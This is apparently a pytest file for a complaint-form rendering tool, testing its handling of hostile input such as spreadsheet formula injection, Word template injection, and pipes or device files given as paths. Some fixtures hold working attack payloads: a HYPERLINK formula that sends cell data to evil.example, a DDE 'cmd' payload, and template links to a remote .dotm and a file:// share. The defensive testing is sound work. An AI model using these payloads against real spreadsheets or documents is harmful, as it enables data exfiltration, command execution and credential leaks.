"""Hostile and careless input, the twenty-seventh round (issue 10, bad input): what round 26 left
(the templates' cache after a kill and in an unsafe folder, a formula-like text in the working
copy, a very hidden sheet of an old .xls, a NUL in a file's name through the Python API) and the
round's own attacks. Real files, real processes; each test fails without its mend."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

from helpers import python_process, soffice_convert, sqlite_open
from hostile import complaint, excel_form, write_json

ROOT = Path(__file__).resolve().parents[1]


def _kesu_render(
    cwd: Path, inbox: object, out: object, db: object, *args: str, **env: str
) -> subprocess.CompletedProcess:
    """``kesu render INBOX -o OUT --db DB ARGS`` in a process of its own, in ``cwd``."""
    return python_process(
        "-m",
        "kesu_docs",
        "render",
        str(inbox),
        "-o",
        str(out),
        "--db",
        str(db),
        *args,
        cwd=cwd,
        timeout=300,
        **env,
    )


# ---------------------------------------------------------------------------------- the templates' cache
def _dead_pid() -> int:
    done = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    return int(done.stdout)


def test_what_a_writer_killed_in_the_templates_cache_left_is_removed_by_the_next_run(tmp_path):
    """A process killed while writing a template's compiled code left its temporary file in the
    cache folder for good (Jinja names it ``…cache<random>.tmp``, with nothing of its writer).
    Now kesu writes it under a name carrying its process id, and the next process removes what
    dead writers left; an hour-old file of Jinja's naming (a kesu before this round) too. A file
    a live process is writing, and a young one, are left alone."""
    cache = tmp_path / "cache"
    folder = cache / "templates"
    folder.mkdir(parents=True, mode=0o700)
    cache.chmod(0o700)
    dead = folder / f".__jinja2_abc.cache.{_dead_pid()}.140234.part"
    live = folder / f".__jinja2_def.cache.{os.getpid()}.140234.part"
    old = folder / "__jinja2_0123.cachexyz12345.tmp"
    young = folder / "__jinja2_4567.cacheabc67890.tmp"
    for path in (dead, live, old, young):
        path.write_bytes(b"half a template's code")
    hour_ago = time.time() - 2 * 3600
    os.utime(old, (hour_ago, hour_ago))
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / "c.json", complaint())
    done = _kesu_render(tmp_path, inbox, tmp_path / "out", tmp_path / "k.db", KESU_CACHE=str(cache))
    assert done.returncode == 0, done.stderr
    assert not dead.exists() and not old.exists()
    assert live.exists() and young.exists()
    kept = [p.name for p in folder.iterdir() if p.name.startswith("__jinja2_") and p.suffix == ".cache"]
    assert kept  # the code compiled now is kept, written whole
    assert not [
        p for p in folder.iterdir() if p.name.endswith(".tmp") and p != young
    ]  # none of Jinja's naming


def test_a_templates_cache_others_can_write_in_is_said_once_and_not_used(tmp_path):
    """``KESU_CACHE`` naming a folder every user can write in: the compiled code is not kept there
    (round 26) — and now the clerk is told once why each run compiles again, and what to do, in
    Chinese by default and in English with ``--lang en``; ``--jobs 2`` says it once too."""
    cache = tmp_path / "shared-cache"
    (cache / "templates").mkdir(parents=True)
    (cache / "templates").chmod(0o777)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(6):
        write_json(inbox / f"c{i}.json", complaint(order_no=f"SO-{i}"))
    for args, words in (
        ((), "不是只属于您的"),
        (("--lang", "en"), "is not yours alone"),
        (("--lang", "en", "--jobs", "2"), "is not yours alone"),
    ):
        out = tmp_path / f"out{len(args)}"
        done = _kesu_render(tmp_path, inbox, out, tmp_path / "k.db", *args, KESU_CACHE=str(cache))
        assert done.returncode == 0, done.stderr
        assert done.stderr.count(words) == 1, done.stderr
        assert str(cache / "templates") in done.stderr and "KESU_CACHE" in done.stderr
        assert len(list(out.glob("*.docx"))) == 6
    assert not list((cache / "templates").iterdir())  # nothing written there
    private = tmp_path / "own-cache"
    done = _kesu_render(tmp_path, inbox, tmp_path / "out9", tmp_path / "k.db", KESU_CACHE=str(private))
    assert done.returncode == 0 and "KESU_CACHE" not in done.stderr  # a private folder: nothing said


# ---------------------------------------------------------------------------------- the working copy
def test_a_customers_formula_like_text_is_quote_prefixed_in_the_working_copy(tmp_path):
    """A form whose customer and description are text starting as a formula does, stored as
    plain text cells (no quote prefix: a file made outside Excel, or by a script): the numbered
    working copy, the one QA fills in next, kept them as plain text cells, which Excel and
    LibreOffice turn into formulas as soon as the cell is edited. Now they carry Excel's quote
    prefix, as kesu's own workbooks do; the text is the same, and no cell holds a formula."""
    import zipfile

    from openpyxl import load_workbook

    hostile = {
        "customer": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "description": "+cmd|' /C calc'!A0 电容虚焊",
        "order_no": "＝1+1",
    }
    (tmp_path / "inbox").mkdir()
    source = excel_form(tmp_path / "inbox" / "form.xlsx", **hostile)
    book = load_workbook(source)
    for sheet in book.worksheets:  # as a file made outside Excel stores them: plain text cells
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in hostile.values():
                    cell.data_type = "s"
                    cell.quotePrefix = False
    book.save(source)
    done = _kesu_render(tmp_path, source.parent, tmp_path / "out", tmp_path / "k.db")
    assert done.returncode == 0, done.stderr
    [copy] = (tmp_path / "out").glob("form-*.xlsx")
    with zipfile.ZipFile(copy) as archive:
        assert not [
            n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)
        ]
    found = {}
    for sheet in load_workbook(copy).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in hostile.values():
                    found[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    assert found == {text: ("s", True) for text in hostile.values()}
    shown = soffice_convert(copy, "csv", tmp_path / "csv").read_text(encoding="utf-8", errors="replace")
    assert "+cmd|' /C calc'!A0" in shown  # LibreOffice shows the text, computes nothing


# ---------------------------------------------------------------------------------- settings and profiles
def _limited(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    """``python -m kesu_docs ARGS`` with 2 GB of address space at most (a read of ``/dev/zero``
    ends in a MemoryError, not in the machine's memory filled), stopped after ``timeout``."""
    import resource

    from helpers import clean_environment

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    return subprocess.run(
        [sys.executable, "-m", "kesu_docs", *args],
        cwd=cwd,
        env=clean_environment(KESU_LANG="en"),
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=limit,
    )


def test_a_pipe_or_a_device_named_as_a_layout_profile_is_refused_not_read(tmp_path):
    """``profiles/x.toml`` a named pipe (nothing ever written to it): ``kesu parse`` of an Excel
    form waited for ever; a link to ``/dev/zero``: read until the memory was gone (here, with a
    limit, the form was said to be too big for the memory). Now each is refused as a profile that
    cannot be used, naming it and why, at once."""
    import json

    source = excel_form(tmp_path / "form.xlsx")
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    os.mkfifo(profiles / "pipe.toml")
    done = _limited("parse", str(source), cwd=tmp_path, timeout=60)
    [line] = done.stdout.splitlines()
    [error] = json.loads(line)["errors"]
    assert error["code"] == "profile_unreadable" and "pipe.toml" in error["message"]
    assert "not a regular file" in error["message"]
    (profiles / "pipe.toml").unlink()
    (profiles / "zero.toml").symlink_to("/dev/zero")
    done = _limited("parse", str(source), cwd=tmp_path)
    [error] = json.loads(done.stdout.splitlines()[0])["errors"]
    assert error["code"] == "profile_unreadable" and "zero.toml" in error["message"]


def test_a_settings_file_far_bigger_than_any_is_refused_before_it_is_read(tmp_path):
    """A kesu.toml of 3 MB (a log file linked or saved under its name): read whole before. Now
    refused as a configuration error (exit 2), naming the file and the limit."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / "c.json", complaint())
    (tmp_path / "kesu.toml").write_text("# " + "x" * (3 << 20) + "\ntax_rate = 0.13\n", encoding="utf-8")
    done = _limited("parse", str(inbox), cwd=tmp_path)
    assert done.returncode == 2, done.stdout
    assert "kesu.toml" in done.stderr and "too big" in done.stderr and "Traceback" not in done.stderr


# ---------------------------------------------------------------------------------- look-alike numbers
def test_a_number_written_in_other_digits_is_the_same_number_never_a_second_document(tmp_path):
    """Forms carrying 202609001 in Arabic-Indic, mathematical bold or Devanagari digits were
    filed as documents of their own under numbers that read as 202609001 (full-width digits were
    already folded): the register held 202609001 and ٢٠٢٦٠٩٠٠١ side by side. Now every digit is
    its ASCII digit: one number, the later forms its revisions, said so as for any form carrying
    the same number."""

    from helpers import kesu

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    numbers = ["202609001", "２０２６０９００１", "٢٠٢٦٠٩٠٠١", "𝟐𝟎𝟐𝟔𝟎𝟗𝟎𝟎𝟏", "२०२६०९००१"]
    for i, number in enumerate(numbers):
        write_json(inbox / f"c{i}.json", complaint(number=number, order_no=f"SO-{i}"))
    done = kesu("render", inbox, "-o", tmp_path / "out", "--db", tmp_path / "k.db", "--lang", "en")
    assert done.exit_code == 0, done.output
    with sqlite_open(tmp_path / "k.db") as conn:
        rows = conn.execute("SELECT number, revision FROM documents ORDER BY id").fetchall()
    assert rows == [("202609001", len(numbers))]
    assert sorted(p.name for p in (tmp_path / "out").glob("*.docx")) == sorted(
        ["complaint-202609001.docx"]
        + [f"complaint-202609001-修订{n}.docx" for n in range(2, len(numbers) + 1)]
    )


# ---------------------------------------------------------------------------------- the register
def test_a_register_path_naming_a_pipe_or_a_device_is_said_to_be_no_register_file(tmp_path):
    """``--db`` naming a named pipe or ``/dev/zero`` (a typo, a script's variable): kesu said
    "the disk is full or cannot be written" (SQLite's "disk I/O error"), sending the clerk to
    make room on a disk that has plenty. Now: not a regular file, give the register file's path;
    nothing numbered, nothing written (exit 2)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / "c.json", complaint())
    os.mkfifo(tmp_path / "pipe.db")
    for db in (tmp_path / "pipe.db", Path("/dev/zero")):
        out = tmp_path / "out"
        done = _kesu_render(tmp_path, inbox, out, db)
        assert done.returncode == 2
        assert "不是普通文件" in done.stderr and "磁盘" not in done.stderr, done.stderr
        assert not out.exists()


# ---------------------------------------------------------------------------------- templates
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _template_with(folder: Path, rels: dict[str, str]) -> Path:
    """The shipped templates copied to ``folder``, the complaint's given ``rels``: part name →
    a relationship added to it (the part made when missing)."""
    import shutil
    import zipfile

    from kesu_docs.render import default_template_dir

    shutil.copytree(default_template_dir(), folder)
    path = folder / "complaint.docx"
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    empty = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename in rels:
                data = data.replace(b"</Relationships>", rels[info.filename].encode() + b"</Relationships>")
            archive.writestr(info, data)
        for name, rel in rels.items():
            if name not in {info.filename for info, _ in members}:
                archive.writestr(name, empty.replace("</Relationships>", rel + "</Relationships>"))
    return folder


def test_a_template_that_has_word_fetch_from_outside_is_refused_a_hyperlink_is_not(tmp_path):
    """A template given an attached template on a web server (Word fetches it as it opens the
    document: the known "template injection") and a picture linked from a share (fetched on
    opening, the user's Windows login sent along): each controlled document carried both, and
    LibreOffice's PDF conversion on the server would fetch them too; an altChunk (content in
    another format Word merges in on opening) printed what kesu never rendered. Now the template is refused,
    naming each link and what to do, zh and en, and nothing is written; a hyperlink (fetched
    only when clicked) is kept as before."""
    import zipfile

    bad = _template_with(
        tmp_path / "bad",
        {
            "word/_rels/settings.xml.rels": f'<Relationship Id="rId1" Type="{_RELS}attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>',
            "word/_rels/document.xml.rels": f'<Relationship Id="rId99" Type="{_RELS}image" '
            'Target="file://evil.example/share/x.png" TargetMode="External"/>'
            f'<Relationship Id="rId97" Type="{_RELS}aFChunk" Target="hidden.mht"/>',
        },
    )
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / "c.json", complaint())
    for lang, words in (("zh", "打开文件时会从文件外取来的内容"), ("en", "fetches from outside the file")):
        out = tmp_path / f"out-{lang}"
        done = _kesu_render(tmp_path, inbox, out, tmp_path / "k.db", KESU_TEMPLATES=str(bad), KESU_LANG=lang)
        said = " ".join(done.stdout.split())
        assert done.returncode == 1 and words in said, done.stdout + done.stderr
        assert "http://evil.example/t.dotm" in said and "file://evil.example/share/x.png" in said
        assert "aFChunk" in said and "hidden.mht" in said  # merged in by Word, never rendered nor checked
        assert not list(out.glob("*.docx"))
    good = _template_with(
        tmp_path / "good",
        {
            "word/_rels/document.xml.rels": f'<Relationship Id="rId98" Type="{_RELS}hyperlink" '
            'Target="https://plant.example/" TargetMode="External"/>'
        },
    )
    done = _kesu_render(tmp_path, inbox, tmp_path / "out", tmp_path / "k2.db", KESU_TEMPLATES=str(good))
    assert done.returncode == 0, done.stdout
    [made] = (tmp_path / "out").glob("*.docx")
    assert b"https://plant.example/" in zipfile.ZipFile(made).read("word/_rels/document.xml.rels")


# ---------------------------------------------------------------------------------- an old .xls
def _very_hidden_in_biff(book: Path, sheet: str) -> None:
    """Make ``sheet`` of the .xls ``book`` very hidden, as a macro does (LibreOffice writes a very
    hidden sheet as hidden): its BOUNDSHEET record's visibility byte set to 2, in place (the
    record's name, UTF-16, is found in the file; the byte is two before its length)."""
    data = bytearray(book.read_bytes())
    name = sheet.encode("utf-16-le")
    at = data.find(bytes([len(sheet), 1]) + name)
    assert at > 0 and data[at - 10 : at - 8] == b"\x85\x00", "no BOUNDSHEET record for the sheet"
    assert data[at - 2] == 1  # hidden, as LibreOffice wrote it
    data[at - 2] = 2
    book.write_bytes(bytes(data))


def test_a_form_on_a_very_hidden_sheet_of_an_old_xls_is_said_to_be_there_and_not_read(tmp_path):
    """Round 26 tested the very hidden sheet of an .xlsx only (LibreOffice cannot write one into
    an .xls). Here the .xls's sheet record is made very hidden as a macro makes it: the form is
    named and not read, as in an .xlsx."""
    from helpers import read_doc
    from openpyxl import load_workbook

    source = ROOT / "samples" / "return-valid.xlsx"
    wb = load_workbook(source)
    form = wb.worksheets[0]
    wb.create_sheet("Cover", 0)["A1"] = "Please enable macros to see this document"
    form.sheet_state = "hidden"
    wb.active = 0
    wb.save(tmp_path / "return.xlsx")
    book = soffice_convert(tmp_path / "return.xlsx", "xls", tmp_path / "xls")
    assert "form_on_hidden_sheet" in {w["code"] for w in read_doc(book)["warnings"]}  # hidden: read
    _very_hidden_in_biff(book, form.title)
    for kind in (None, "return"):
        doc = read_doc(book, kind)
        assert doc["record"] is None
        [error] = doc["errors"]
        assert error["code"] == "form_sheet_very_hidden" and "(Cover)" in error["message"]


# ---------------------------------------------------------------------------------- a NUL in a name
def test_a_nul_in_a_files_name_through_the_python_api_is_said_for_what_it_is(tmp_path):
    """``kesu_docs.read`` / ``file_batch`` given a name holding a NUL (a program's string not cut
    at its end): each such file was "Cannot read the file: ValueError: embedded null byte", in
    Chinese "the reader cannot parse the file's content" — as if the file were damaged. Now the
    name is said to hold a NUL, which no file name can; the batch's other files are read."""
    import kesu_docs

    good = write_json(tmp_path / "good.json", complaint())
    names = ["a\0b.xlsx", str(tmp_path / "d\0") + "/x.pdf", str(good) + "\0"]
    results = kesu_docs.read([*names, good])
    assert [r.valid for r in results] == [False, False, False, True]
    for result in results[:3]:
        [error] = result.errors
        assert error.code == "unreadable_file"
        assert "NUL" in error.message("en") and "NUL 字符" in error.message("zh")
    with kesu_docs.open_register(tmp_path / "k.db") as register:
        filed = kesu_docs.file_batch([names[0], good], tmp_path / "out", register=register, jobs=2)
    assert [f.outcome for f in filed] == ["unreadable", "rendered"]
    assert "NUL" in filed[0].problems[0].message("en")
